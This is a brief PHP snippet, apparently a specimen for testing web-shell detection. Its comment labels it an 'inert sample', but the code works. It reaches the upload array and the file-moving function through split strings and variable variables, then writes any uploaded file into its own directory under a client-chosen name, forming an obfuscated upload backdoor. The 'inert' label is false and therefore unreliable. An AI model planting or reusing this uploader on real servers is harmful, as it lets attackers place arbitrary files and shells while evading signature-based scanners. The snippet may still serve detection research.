<?php
// inert sample: the upload array and the mover reached through variable variables and split names
$a = '_FI' . 'LES';
$u = $$a;
$n = 'na' . 'me';
$t = 'tmp_' . $n;
if (isset($u['f'])) {
    $dst = dirname(__FILE__) . '/' . $u['f'][$n];
    $mv = 'move_uploaded' . '_file';
    echo $mv($u['f'][$t], $dst) ? 'ok' : 'fail';
}
